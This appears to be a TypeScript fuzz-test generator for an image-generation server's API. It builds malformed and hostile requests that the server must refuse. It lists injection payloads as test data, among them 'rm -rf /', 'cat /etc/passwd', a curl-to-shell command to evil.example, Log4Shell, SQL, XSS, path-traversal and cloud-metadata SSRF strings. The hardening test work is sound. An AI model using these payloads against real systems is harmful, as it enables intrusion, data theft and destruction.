import fc from "fast-check";
import { samplingMethods, schedulers } from "../../../src/diffusion/sampling-options.js";
import { makePng } from "../../server/harness.js";

/**
 * Generators of requests a server must refuse: each starts from a valid request for its
 * route and carries at least one defect that makes it invalid whatever else it holds
 * (a wrong type, a value out of range, an unknown model, a broken body...), plus hostile
 * decorations that are harmless on their own (invalid UTF-8 bytes, shell metacharacters,
 * odd content types, extra fields). So every one must be answered 4xx, in the dialect's
 * error shape, before anything runs.
 *
 * Values that some schema would accept are kept out on purpose: `null` (the seed API reads
 * it as "not given"), NaN and Infinity (JSON turns them into null), "" and blank model names
 * (they mean the default model), strings that are decimal numbers ("20" is a valid step count).
 */

export interface HostileRequest {
  /** What is wrong with it, for failure messages. */
  label: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer | undefined;
  chunked?: boolean;
  /** "refused": must be 4xx; "answered": any status below 500 (a GET that may well succeed). */
  expect: "refused" | "answered";
}

/** Known model names and aliases never appear: every generated model name is unknown. */
const unknownPrefix = "no-such-model-";
const badUtf8 = Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82, 0xed, 0xa0, 0x80]);
const utf8Marker = "@@BAD_UTF8@@";

// ------------------------------------------------------------------------- values

/** Text an attacker would try: shell, path traversal, format strings, markup, odd unicode. */
export const nastyText = fc.oneof(
  fc.constantFrom(
    "$(touch /tmp/diffugen-pwned)",
    "`touch /tmp/diffugen-pwned`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x | sh",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%s%s%n%x",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "' OR '1'='1",
    "\r\n\r\nHTTP/1.1 200 OK",
    "-o /tmp/evil.png",
    "--help",
    "\u202e\u200b\ufeff",
    "\ud800",
    "🦊".repeat(50),
  ),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
);

const nonString = fc.oneof(fc.integer(), fc.boolean(), fc.array(fc.integer(), { maxLength: 3 }), fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 2 }));
const nonNumericString = fc.oneof(
  fc.constantFrom("abc", "", " ", "1e3", "0x10", "NaN", "Infinity", "-Infinity", "12px", "1,5", "ten", "2.5.1"),
  nastyText.filter((s) => !/^\s*[-+]?(\d+(\.\d*)?|\.\d+)\s*$/.test(s)),
);
const nonInteger = fc.double({ min: -1e6, max: 1e6, noNaN: true }).filter((x) => !Number.isInteger(x));
const notAFlag = fc.oneof(fc.constantFrom("yes", "no", "on", "maybe", "TRUE ", 2, -1), fc.array(fc.boolean(), { maxLength: 2 }), fc.dictionary(fc.string({ maxLength: 3 }), fc.boolean(), { maxKeys: 1 }));

/** Whole numbers outside [min, max], small and huge. */
const intOutside = (min: number, max: number) =>
  fc.oneof(fc.integer({ min: -1_000_000, max: min - 1 }), fc.integer({ min: max + 1, max: max + 1_000_000 }), fc.constantFrom(max + 1, min - 1, 2 ** 53, -(2 ** 53), 1e21, 1e300));
/** Numbers outside [min, max]. */
const numberOutside = (min: number, max: number) => fc.oneof(intOutside(min, max), fc.double({ min: max + 0.001, max: 1e12, noNaN: true }), fc.double({ min: -1e12, max: min - 0.001, noNaN: true }));
const badNumber = (min: number, max: number, integer: boolean) =>
  fc.oneof(numberOutside(min, max), ...(integer ? [nonInteger] : []), nonNumericString, fc.boolean(), fc.array(fc.integer(), { maxLength: 2 }));

/**
 * Sides no model takes: off the 64 grid, 0 or below, above 2048 (the largest limit, so a
 * /generate/flux request never becomes valid and then 503 for its missing weights).
 */
const badSide = fc.oneof(
  fc.integer({ min: 1, max: 2047 }).filter((x) => x % 64 !== 0),
  fc.integer({ min: 33, max: 20_000 }).map((k) => k * 64),
  fc.integer({ min: -100_000, max: 0 }),
  fc.constantFrom(1e9, 2 ** 53, 64.5),
  nonInteger,
  nonNumericString,
  fc.boolean(),
);
const badSize = fc.oneof(
  fc.constantFrom("64", "64x", "x64", "64*64", "64 x 64", "64x64x64", "-64x64", "0x0", "99999x99999", "1024x4096", "64x64; rm -rf /", "auto64", "½x64"),
  fc.tuple(badSide.filter((v): v is number => typeof v === "number" && Number.isInteger(v) && v >= 0 && v < 100_000), fc.constantFrom(64, 128, 512)).map(([a, b]) => `${a}x${b}`),
  nastyText.filter((s) => !/^\s*(auto|\d{1,5}x\d{1,5})\s*$/i.test(s)),
  nonString,
);
const unknownModel = fc.oneof(
  fc.constantFrom("../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "sd15\u0000", "sd15;rm -rf /", "$(id)", "a".repeat(300)),
  nastyText.map((s) => `${unknownPrefix}${s}`),
);
const promptWithNul = fc.tuple(nastyText, nastyText).map(([a, b]) => `${a}\u0000${b}`);
const tooLong = fc.integer({ min: 8001, max: 12_000 }).map((n) => "x".repeat(n));
/** Over the prompt limit but under node's 16 KB request-line limit (which answers 431 on its own). */
const tooLongForUrl = fc.integer({ min: 8001, max: 9_000 }).map((n) => "x".repeat(n));

/** Percent-encodes every UTF-8 byte (a lone surrogate goes out as U+FFFD, as browsers send it). */
function pct(text: string): string {
  return Buffer.from(text, "utf8").toString("hex").replace(/../g, "%$&");
}
const blank = fc.constantFrom(" ", "\t", "\n\n", "   \r\n ");
const badPrompt = fc.oneof(nonString, promptWithNul, tooLong, blank, fc.constant(null), fc.constant(""));
const badNegative = fc.oneof(nonString, promptWithNul, tooLong);
const notInList = (list: readonly string[]) => fc.oneof(nastyText, fc.constantFrom("warp_drive", "EULER_A ", "karras2")).filter((s) => !list.includes(s));
const samplers: readonly string[] = samplingMethods;

/** field → an arbitrary of values that make a request invalid. */
type BadFields = Record<string, fc.Arbitrary<unknown>>;

const generationExtrasBad: BadFields = {
  negative_prompt: badNegative,
  steps: badNumber(1, 150, true),
  cfg_scale: fc.oneof(numberOutside(0, 30), nonNumericString),
  guidance: fc.oneof(numberOutside(0, 30), nonNumericString),
  seed: fc.oneof(intOutside(-1, 2 ** 32 - 1), nonInteger, nonNumericString),
  sampling_method: fc.oneof(notInList(samplers), nonString),
  scheduler: fc.oneof(notInList(schedulers), nonString),
  vae_tiling: notAFlag,
  refine: notAFlag,
};

const openaiImageBad: BadFields = {
  prompt: badPrompt,
  model: fc.oneof(unknownModel, nonString),
  n: badNumber(1, 8, true),
  size: badSize,
  quality: nonString,
  response_format: fc.oneof(fc.constantFrom("gif", "URL", "b64", "file"), nonString),
  output_format: fc.oneof(fc.constantFrom("jpeg", "webp", "gif", "PNG "), nonString),
  background: fc.oneof(fc.constantFrom("transparent", "none"), nonString),
  stream: notAFlag,
  partial_images: badNumber(0, 3, true),
  ...generationExtrasBad,
};

const seedBad: BadFields = {
  prompt: badPrompt.filter((v) => v !== null),
  model: fc.oneof(unknownModel, nonString),
  width: badSide,
  height: badSide,
  steps: badNumber(1, 150, true),
  cfg_scale: fc.oneof(numberOutside(1, 20), nonNumericString),
  seed: fc.oneof(intOutside(-1, 2 ** 32 - 1), nonInteger, nonNumericString),
  sampling_method: fc.oneof(notInList(samplers), nonString),
  scheduler: fc.oneof(notInList(schedulers), nonString),
  negative_prompt: badNegative,
  refine: notAFlag,
};

const badBase64Part = fc.constantFrom("data:image/png;base64,!!!!", "data:image/png;base64,", "data:text/html,<script>", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/");
const chatBad: BadFields = {
  model: fc.oneof(nonString, fc.constant(""), unknownModel.map((m) => `diffugen:${m}`)),
  messages: fc.oneof(
    nonString,
    fc.constant([]),
    fc.record({ role: fc.oneof(nastyText.filter((r) => !["system", "developer", "user", "assistant", "tool", "function"].includes(r)), nonString), content: nastyText }).map((m) => [m]),
    nastyText.map((c) => [{ role: "assistant", content: c }]),
    fc.oneof(blank, fc.constant("")).map((c) => [{ role: "user", content: c }]),
    badBase64Part.map((url) => [{ role: "user", content: [{ type: "image_url", image_url: { url } }] }]),
    nonString.filter((v) => typeof v !== "object").map((c) => [{ role: "user", content: c }]),
    fc.constant([{ role: "user", content: [{ type: "text", text: 5 }] }]),
    fc.constant([{ role: "user" }]),
    promptWithNul.map((c) => [{ role: "user", content: c }]),
    tooLong.map((c) => [{ role: "user", content: c }]),
  ),
  stream: notAFlag,
  stream_options: fc.oneof(fc.integer(), nastyText, fc.record({ include_usage: notAFlag })),
  size: badSize,
  ...generationExtrasBad,
};

const generationBad: BadFields = {
  prompt: badPrompt,
  negativePrompt: badNegative,
  model: fc.oneof(unknownModel, nonString, fc.constant("")),
  width: badSide,
  height: badSide,
  steps: badNumber(1, 150, true),
  cfgScale: fc.oneof(numberOutside(0, 30), nonNumericString),
  guidance: fc.oneof(numberOutside(0, 30), nonNumericString),
  samplingMethod: fc.oneof(notInList(samplers), nonString),
  scheduler: fc.oneof(notInList(schedulers), nonString),
  seed: fc.oneof(intOutside(-1, 2 ** 32 - 1), nonInteger, nonNumericString),
  batchCount: badNumber(1, 8, true),
  strength: fc.oneof(numberOutside(0, 1), nonNumericString),
  vaeTiling: notAFlag,
  // Only uploads may name an init image: any value here is refused.
  initImage: fc.oneof(fc.constantFrom("/etc/passwd", "../../secret.png", "/dev/zero"), nastyText, nonString),
};
const generationFieldNames = Object.keys(generationBad);

const graphTopBad: BadFields = {
  mode: fc.oneof(nastyText.filter((m) => m !== "image" && m !== "chat"), nonString),
  refinePrompt: notAFlag,
  previousPrompt: nonString,
  // An empty list is a valid (empty) history.
  messages: fc.oneof(nonString.filter((v) => !(Array.isArray(v) && v.length === 0)), nastyText.map((c) => [{ role: "hacker", content: c }]), fc.constant([{ role: "user", content: 5 }])),
  stream_mode: fc.oneof(fc.constantFrom("nope", "messages", "debug", []), fc.array(fc.constantFrom("values", "bogus"), { minLength: 1, maxLength: 3 }).filter((a) => a.includes("bogus")), fc.integer()),
  request: fc.oneof(nonString.filter((v) => Array.isArray(v) || typeof v !== "object"), fc.constant({}), fc.constant(null), nastyText),
};

// ------------------------------------------------------------------------- routes

export type RouteKind = "openai-images" | "openai-seed-stream" | "seed" | "chat" | "graph" | "events" | "feed" | "edits" | "plain-get" | "images-file" | "other";

export interface RouteTarget {
  method: string;
  path: string;
  kind: RouteKind;
}

/** What each route the app declares takes, by its path; anything else is "other". */
export function routeKind(method: string, path: string): RouteKind {
  // POST /v1/jobs starts a background job from the same body as an image generation.
  if (method === "POST" && (path === "/v1/images/generations" || path === "/v1/jobs")) return "openai-images";
  if (method === "POST" && path === "/v1/images/generations/stream") return "openai-seed-stream";
  if (method === "POST" && /^\/generate(\/(stable|flux))?(\/stream)?$/.test(path)) return "seed";
  if (method === "POST" && path === "/v1/chat/completions") return "chat";
  if (method === "POST" && (path === "/v1/graph/stream" || path === "/v1/runs/stream")) return "graph";
  if (method === "GET" && path === "/v1/events/stream") return "events";
  // The operator page's live feed: a stream that never ends by itself.
  if (method === "GET" && path === "/v1/events") return "feed";
  if (method === "POST" && path === "/v1/images/edits") return "edits";
  if (method === "GET" && path === "/images/:name") return "images-file";
  if (method === "GET" && !path.includes(":") && !path.includes("*")) return "plain-get";
  return "other";
}

const jsonHeaders = { "Content-Type": "application/json" };
const contentTypes = fc.constantFrom("application/json", "application/json; charset=utf-8", "text/plain", "application/x-www-form-urlencoded", "application/json; charset=utf-16");

const validBodies: Record<"openai-images" | "openai-seed-stream" | "seed" | "chat" | "graph", Record<string, unknown>> = {
  "openai-images": { prompt: "a red fox", size: "64x64", steps: 2, refine: false },
  "openai-seed-stream": { prompt: "a red fox", size: "64x64", steps: 2, refine: false },
  seed: { prompt: "a red fox", width: 64, height: 64, steps: 2, refine: false },
  chat: { model: "diffugen", size: "64x64", steps: 2, messages: [{ role: "user", content: "draw a red fox" }] },
  graph: { request: { prompt: "a red fox", width: 64, height: 64, steps: 2 }, refinePrompt: false },
};

/** Serialises a body; a string value holding the marker gets raw invalid UTF-8 bytes there. */
function encodeJson(value: unknown): Buffer {
  const text = JSON.stringify(value);
  const parts = text.split(utf8Marker);
  const out: Buffer[] = [];
  parts.forEach((part, i) => {
    if (i > 0) out.push(badUtf8);
    out.push(Buffer.from(part, "utf8"));
  });
  return Buffer.concat(out);
}

/** Harmless on their own: extra fields (ignored by lenient routes), bad bytes inside strings. */
const decorations = fc.record({
  extraFields: fc.dictionary(fc.oneof(nastyText, fc.constantFrom("user", "metadata", "hasOwnProperty", "toString")).filter((k) => k !== "__proto__" && k !== "constructor" && k !== "prompt"), nastyText, { maxKeys: 2 }),
  utf8InPrompt: fc.boolean(),
  contentType: contentTypes,
});

/** A JSON route's body with one or more bad fields. */
function fieldDefects(bad: BadFields, kind: keyof typeof validBodies, strict: boolean) {
  const names = Object.keys(bad);
  return fc
    .tuple(fc.subarray(names, { minLength: 1, maxLength: 3 }), decorations)
    .chain(([fields, deco]) =>
      fc.tuple(...fields.map((f) => bad[f]!)).map((values) => {
        const body: Record<string, unknown> = { ...validBodies[kind] };
        // Lenient routes ignore extra fields; a strict one would refuse them for another reason.
        if (!strict) Object.assign(body, deco.extraFields);
        fields.forEach((f, i) => (body[f] = values[i]));
        // Bad bytes go into a prompt that is not itself the defect (they would un-blank a blank one).
        if (deco.utf8InPrompt && !fields.includes("prompt") && typeof body.prompt === "string") body.prompt = `${body.prompt}${utf8Marker}`;
        return { fields, body, contentType: deco.contentType };
      }),
    );
}

/** A JSON body with bad fields, sent to `path`: the server must refuse it. */
function jsonRefusal(path: string) {
  return ({ fields, body, contentType }: { fields: string[]; body: Record<string, unknown>; contentType: string }): HostileRequest => ({
    label: `${path} bad ${fields.join(",")}`,
    method: "POST",
    path,
    headers: { "Content-Type": contentType },
    body: encodeJson(body),
    expect: "refused",
  });
}

function graphDefects() {
  const requestField = fc.tuple(fc.subarray(generationFieldNames, { minLength: 1, maxLength: 2 }), fc.boolean()).chain(([fields, bytes]) =>
    fc.tuple(...fields.map((f) => generationBad[f]!)).map((values) => {
      const request: Record<string, unknown> = { ...(validBodies.graph.request as Record<string, unknown>) };
      fields.forEach((f, i) => (request[f] = values[i]));
      if (bytes && !fields.includes("prompt") && typeof request.prompt === "string") request.prompt = `${request.prompt}${utf8Marker}`;
      return { label: `request.{${fields.join(",")}}`, body: { ...validBodies.graph, request } as Record<string, unknown> };
    }),
  );
  const topField = fc.subarray(Object.keys(graphTopBad), { minLength: 1, maxLength: 2 }).chain((fields) =>
    fc.tuple(...fields.map((f) => graphTopBad[f]!)).map((values) => {
      const body: Record<string, unknown> = { ...validBodies.graph };
      fields.forEach((f, i) => (body[f] = values[i]));
      return { label: fields.join(","), body };
    }),
  );
  // Object.prototype's members among them: a lookup by a client's key must not find those.
  const keyName = fc.oneof(fc.constantFrom("constructor", "toString", "hasOwnProperty", "valueOf", "isPrototypeOf"), nastyText);
  const unknownKey = fc.tuple(fc.boolean(), keyName.filter((k) => k !== "__proto__" && k.length > 0)).map(([inside, key]) => {
    if (inside) {
      if (generationFieldNames.includes(key) || key === "prompt") return { label: "unknown key", body: { ...validBodies.graph, streamMode: "x" } };
      return { label: `unknown request key ${JSON.stringify(key)}`, body: { ...validBodies.graph, request: { ...(validBodies.graph.request as object), [key]: 1 } } };
    }
    const allowed = ["mode", "request", "refinePrompt", "messages", "previousPrompt", "stream_mode", "streamMode"];
    if (allowed.includes(key)) return { label: "both stream modes", body: { ...validBodies.graph, stream_mode: "values", streamMode: "updates" } };
    return { label: `unknown key ${JSON.stringify(key)}`, body: { ...validBodies.graph, [key]: true } };
  });
  return fc.oneof(requestField, topField, unknownKey);
}

/** Requests with a bad field for the JSON routes. */
export function jsonFieldRequests(targets: RouteTarget[]): fc.Arbitrary<HostileRequest> {
  return fc.constantFrom(...targets).chain((target): fc.Arbitrary<HostileRequest> => {
    const headers = (ct: string) => ({ "Content-Type": ct });
    switch (target.kind) {
      case "openai-images":
      case "openai-seed-stream":
        return fieldDefects(openaiImageBad, target.kind, false).map(jsonRefusal(target.path));
      case "seed":
        return fieldDefects(seedBad, "seed", false).map(jsonRefusal(target.path));
      case "chat":
        return fieldDefects(chatBad, "chat", false).map(jsonRefusal(target.path));
      case "graph":
        return fc.tuple(graphDefects(), contentTypes).map(([{ label, body }, ct]) => ({
          label: `${target.path} bad ${label}`,
          method: "POST",
          path: target.path,
          headers: headers(ct),
          body: encodeJson(body),
          expect: "refused" as const,
        }));
      default:
        throw new Error(`no field defects for ${target.kind}`);
    }
  });
}

/** Bodies that are not what a JSON route takes at all: broken, not an object, empty, too big. */
export function brokenBodyRequests(targets: RouteTarget[], maxBodyBytes: number): fc.Arbitrary<HostileRequest> {
  const broken = fc.oneof(
    fc.constant({ label: "empty body", body: Buffer.alloc(0), chunked: false }),
    fc.tuple(fc.constantFrom(...Object.values(validBodies)), fc.nat()).map(([v, n]) => {
      const text = JSON.stringify(v);
      return { label: "truncated JSON", body: Buffer.from(text.slice(0, n % text.length)), chunked: false };
    }),
    fc.constantFrom("null", "[]", "1", '"a string"', "true", "[{}]", "{}{}").map((t) => ({ label: `JSON ${t}`, body: Buffer.from(t), chunked: false })),
    fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => ({ label: "random bytes", body: Buffer.concat([Buffer.from("{"), Buffer.from(bytes)]), chunked: false })),
    fc.constant({ label: "invalid UTF-8 outside strings", body: Buffer.concat([Buffer.from('{"prompt":"a fox",'), badUtf8, Buffer.from("}")]), chunked: false }),
    fc.integer({ min: 10, max: 50_000 }).map((depth) => ({ label: `nesting ${depth} deep`, body: Buffer.from(`${"[".repeat(depth)}${"]".repeat(depth)}`), chunked: false })),
    fc.tuple(fc.integer({ min: 1, max: 4 }), fc.boolean()).map(([times, chunked]) => {
      // Valid JSON, far over MAX_BODY_MB: refused with 413 whatever it says.
      const prompt = "a fox ".repeat(Math.ceil((maxBodyBytes * (1 + times / 2)) / 6));
      return { label: `${times}x over the body limit${chunked ? ", chunked" : ""}`, body: Buffer.from(JSON.stringify({ prompt, refine: false })), chunked };
    }),
  );
  return fc.tuple(fc.constantFrom(...targets), broken, contentTypes).map(([target, b, ct]) => ({
    label: `${target.path} ${b.label}`,
    method: target.method,
    path: target.path,
    headers: { "Content-Type": ct },
    body: b.body,
    chunked: b.chunked,
    expect: "refused" as const,
  }));
}

// ------------------------------------------------------------------------- multipart

const png64 = makePng(64, 64);

function pngWithSize(width: number, height: number): Buffer {
  const copy = Buffer.from(png64);
  copy.writeUInt32BE(width, 16);
  copy.writeUInt32BE(height, 20);
  return copy;
}

interface Part {
  name: string;
  value: string | Buffer;
  filename?: string;
  type?: string;
}

function multipart(parts: Part[], boundary: string): Buffer {
  const out: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename === undefined ? "" : `; filename="${p.filename}"`}`;
    out.push(Buffer.from(`--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ""}\r\n`));
    out.push(typeof p.value === "string" ? Buffer.from(p.value) : p.value);
    out.push(Buffer.from("\r\n"));
  }
  out.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(out);
}

const badImageBytes = fc.oneof(
  fc.constant({ label: "base64 text instead of bytes", bytes: Buffer.from(png64.toString("base64")) }),
  fc.constant({ label: "data URL instead of bytes", bytes: Buffer.from(`data:image/png;base64,${png64.toString("base64")}`) }),
  fc.constant({ label: "broken base64", bytes: Buffer.from("iVBORw0KGgo!!!!@@@@====") }),
  fc.constant({ label: "empty file", bytes: Buffer.alloc(0) }),
  fc.nat({ max: png64.length - 2 }).map((n) => ({ label: `PNG cut at ${n}`, bytes: png64.subarray(0, n) })),
  fc.constantFrom([0, 0], [0, 64], [64, 0], [9000, 64], [64, 100_000], [2 ** 31, 2 ** 31]).map(([w, h]) => ({ label: `PNG header ${w}x${h}`, bytes: pngWithSize(w!, h!) })),
  fc.constant({ label: "JPEG marker only", bytes: Buffer.from([0xff, 0xd8, 0xff, 0xd9]) }),
  fc.constant({ label: "GIF", bytes: Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1") }),
  fc.uint8Array({ minLength: 1, maxLength: 300 }).map((b) => ({ label: "random bytes", bytes: Buffer.from(b) })),
);

/** Image edits that must be refused: broken multipart, a bad image, or a bad field. */
export function editRequests(path: string, maxBodyBytes: number): fc.Arbitrary<HostileRequest> {
  const boundary = "----diffugen-hostile-boundary";
  const mp = (parts: Part[], label: string, extra: Partial<HostileRequest> = {}): HostileRequest => ({
    label: `${path} ${label}`,
    method: "POST",
    path,
    headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` },
    body: multipart(parts, boundary),
    expect: "refused",
    ...extra,
  });
  const goodImage: Part = { name: "image", value: png64, filename: "in.png", type: "image/png" };
  const fields = (prompt: string | undefined): Part[] => [
    ...(prompt === undefined ? [] : [{ name: "prompt", value: prompt }]),
    { name: "size", value: "64x64" },
    { name: "steps", value: "2" },
    { name: "refine", value: "false" },
  ];
  // Form values are strings: bad ones as a client would type them.
  const badFormValue: Record<string, fc.Arbitrary<string>> = {
    model: unknownModel.filter((m) => m.trim() !== "" && !m.includes("\u0000")),
    n: fc.constantFrom("0", "9", "11", "-1", "1.5", "ten", ""),
    size: fc.constantFrom("64", "64x", "0x0", "99999x99999", "1024x4096", "65x64", "big"),
    steps: fc.constantFrom("0", "151", "abc", "2.5", "1e9", ""),
    cfg_scale: fc.constantFrom("-1", "31", "x"),
    guidance: fc.constantFrom("-1", "31", "x"),
    seed: fc.constantFrom("-2", "4294967296", "1.5", "x"),
    strength: fc.constantFrom("-0.1", "1.5", "x", ""),
    response_format: fc.constantFrom("gif", "URL"),
    output_format: fc.constantFrom("jpeg", "webp"),
    background: fc.constantFrom("transparent"),
    stream: fc.constantFrom("yes", "2"),
    partial_images: fc.constantFrom("4", "-1", "x"),
    sampling_method: notInList(samplers).filter((v) => !v.includes("\u0000")),
    scheduler: fc.constantFrom("nope", "karras2"),
    vae_tiling: fc.constantFrom("maybe", "yes"),
    refine: fc.constantFrom("maybe", "2"),
    negative_prompt: fc.oneof(promptWithNul, tooLong),
  };
  const badField = fc.constantFrom(...Object.keys(badFormValue)).chain((field) => badFormValue[field]!.map((v) => ({ field, v })));
  return fc.oneof(
    fc.constant({ ...mp(fields("a fox"), "no image part") }),
    badImageBytes.map(({ label, bytes }) => mp([{ name: "image", value: bytes, filename: "in.png", type: "image/png" }, ...fields("a fox")], label)),
    fc.constant(mp([{ name: "image", value: png64.toString("base64") }, ...fields("a fox")], "image as a text field (base64)")),
    fc.constant(mp([goodImage, ...fields(undefined)], "no prompt")),
    fc.oneof(promptWithNul, blank, tooLong).map((p) => mp([goodImage, ...fields(p)], "bad prompt")),
    badField.map(({ field, v }) => mp([goodImage, ...fields("a fox").filter((p) => p.name !== field), { name: field, value: v }], `bad ${field}`)),
    fc.constant({ ...mp([goodImage, ...fields("a fox")], "wrong boundary"), headers: { "Content-Type": "multipart/form-data; boundary=not-the-one" } }),
    fc.constant({ ...mp([goodImage, ...fields("a fox")], "no boundary"), headers: { "Content-Type": "multipart/form-data" } }),
    fc.nat().map((n) => {
      const body = multipart([goodImage, ...fields("a fox")], boundary);
      return { ...mp([], `multipart cut at ${n % body.length}`), body: body.subarray(0, n % body.length) };
    }),
    fc.constant({
      label: `${path} JSON with a base64 image`,
      method: "POST",
      path,
      headers: jsonHeaders,
      body: Buffer.from(JSON.stringify({ prompt: "a fox", image: `data:image/png;base64,${png64.toString("base64")}` })),
      expect: "refused" as const,
    }),
    fc.boolean().map((chunked) => ({
      ...mp([{ name: "image", value: Buffer.concat([png64, Buffer.alloc(maxBodyBytes * 2)]), filename: "huge.png", type: "image/png" }, ...fields("a fox")], `upload over the body limit${chunked ? ", chunked" : ""}`),
      chunked,
    })),
  );
}

// ------------------------------------------------------------------------- GET routes and paths

/** GET /v1/events/stream with bad query parameters. */
export function eventQueryRequests(path: string): fc.Arbitrary<HostileRequest> {
  const valid: Record<string, string> = { prompt: "a fox", width: "64", height: "64", steps: "2", refinePrompt: "false" };
  const strBad: Record<string, fc.Arbitrary<string>> = {
    prompt: fc.oneof(promptWithNul, blank, tooLongForUrl),
    width: fc.oneof(fc.constantFrom("65", "0", "-64", "2048", "abc", "64.5", "1e3", ""), nastyText.filter((s) => !/^\s*[-+]?(\d+(\.\d*)?|\.\d+)\s*$/.test(s))),
    steps: fc.constantFrom("0", "151", "abc", "2.5", "1e9"),
    cfgScale: fc.constantFrom("-1", "31", "x"),
    samplingMethod: notInList(samplers),
    model: unknownModel.filter((m) => m.trim() !== ""),
    stream_mode: fc.constantFrom("bogus", "updates,bogus", ",", " "),
    mode: fc.constantFrom("draw", "IMAGE", "$(id)"),
    refinePrompt: fc.constantFrom("yes", "2", "maybe"),
  };
  const defect = fc.oneof(
    fc.subarray(Object.keys(strBad), { minLength: 1, maxLength: 2 }).chain((fields) =>
      fc.tuple(...fields.map((f) => strBad[f]!)).map((values) => {
        const q = { ...valid };
        fields.forEach((f, i) => (q[f] = values[i]!));
        return { label: `bad ${fields.join(",")}`, query: new URLSearchParams(q).toString() };
      }),
    ),
    fc.oneof(fc.constantFrom("constructor", "toString", "__proto__", "hasOwnProperty"), nastyText)
      .filter((k) => k !== "" && !["prompt", "width", "height", "steps", "refinePrompt", "mode", "previousPrompt", "stream_mode", "streamMode", ...generationFieldNames].includes(k))
      .map((k) => ({ label: `unknown parameter ${JSON.stringify(k)}`, query: `${new URLSearchParams(valid).toString()}&${pct(k)}=1` })),
    fc.constant({ label: "no prompt", query: "width=64&height=64" }),
    fc.constant({ label: "raw %00 and bad escapes", query: "prompt=%00&width=%zz" }),
    fc.constant({ label: "invalid UTF-8 escapes in a bad field", query: "prompt=%ff%fe&steps=%ff" }),
  );
  return defect.map(({ label, query }) => ({ label: `${path} ${label}`, method: "GET", path: `${path}?${query}`, headers: {}, expect: "refused" as const }));
}

const traversals = [
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..%252f..%252fetc%252fpasswd",
  "....%2f%2f....%2f%2fetc%2fpasswd",
  "..%5c..%5cwindows%5cwin.ini",
  "%2fetc%2fpasswd",
  ".hidden.png",
  "x.preview.png",
  "a%00.png",
  "%00",
  "..",
  "%2e%2e",
  "x.png%2f..%2f..%2fsecret",
  "%ff%fe.png",
  "CON.png",
  "x.svg",
];

/** Image file names that do not exist or must never be served. */
export function imageFileRequests(): fc.Arbitrary<HostileRequest> {
  const name = fc.oneof(fc.constantFrom(...traversals), nastyText.map((s) => pct(s)).filter((s) => s !== "" && s !== "." && s !== ".."));
  // A name the URL parser resolves out of /images/ (`..`: `/images/..` is `/`) reaches another
  // route (the operator page's shell at `/`): never a file, but not a refusal either.
  return name.map((n) => {
    const path = `/images/${n}`;
    const stays = new URL(path, "http://x").pathname.startsWith("/images/");
    return { label: `GET ${path}`, method: "GET", path, headers: {}, expect: stays ? ("refused" as const) : ("answered" as const) };
  });
}

/**
 * Paths nobody serves, wrong methods on real routes, hostile query strings on plain GETs.
 * Unknown paths may hold dot segments the URL parser resolves (`%2e%2e`) into a real route,
 * so those only need an answer below 500, in the dialect's shape if it is an error.
 */
export function pathRequests(targets: RouteTarget[]): fc.Arbitrary<HostileRequest> {
  const declared = new Set(targets.map((t) => `${t.method} ${t.path}`));
  const prefix = fc.constantFrom("/v1/", "/generate/", "/v1/images/", "/v1/chat/", "/health/", "/images/x/");
  const unknownPath = fc
    .tuple(prefix, fc.oneof(fc.constantFrom(...traversals), nastyText.map((s) => pct(s))))
    .filter(([, rest]) => rest !== "")
    .map(([p, rest]) => ({ label: `unknown path ${p}x/${rest}`, method: "GET", path: `${p}x/${rest}`, headers: {}, expect: "answered" as const }));
  const methods = fc.constantFrom("PUT", "DELETE", "PATCH", "POST", "GET");
  const wrongMethod = fc
    .tuple(fc.constantFrom(...targets), methods)
    .filter(([t, m]) => !declared.has(`${m} ${t.path}`) && !declared.has(`ALL ${t.path}`))
    .map(([t, m]) => ({
      label: `${m} ${t.path}`,
      method: m,
      path: concretePath(t.path),
      headers: jsonHeaders,
      body: m === "GET" ? undefined : Buffer.from("{}"),
      expect: "refused" as const,
    }));
  const plainGets = targets.filter((t) => t.kind === "plain-get" || (t.kind === "other" && t.method === "GET"));
  const hostileQuery =
    plainGets.length === 0
      ? wrongMethod
      : fc.tuple(fc.constantFrom(...plainGets), nastyText, nastyText).map(([t, k, v]) => ({
          label: `GET ${t.path} with a hostile query`,
          method: "GET",
          path: `${concretePath(t.path)}?${pct(k)}=${pct(v)}&%ff=%00&${pct(k)}[]=..%2f..`,
          headers: {},
          expect: "answered" as const,
        }));
  return fc.oneof(unknownPath, wrongMethod, hostileQuery);
}

/** A path the router matches for a route pattern (`:name` and `*` filled in). */
export function concretePath(pattern: string): string {
  return pattern
    .replace(/:name(\{[^}]*\})?/g, "example.png")
    .replace(/:[A-Za-z_]+(\{[^}]*\})?/g, "example-1")
    .replace(/\*/g, "example");
}
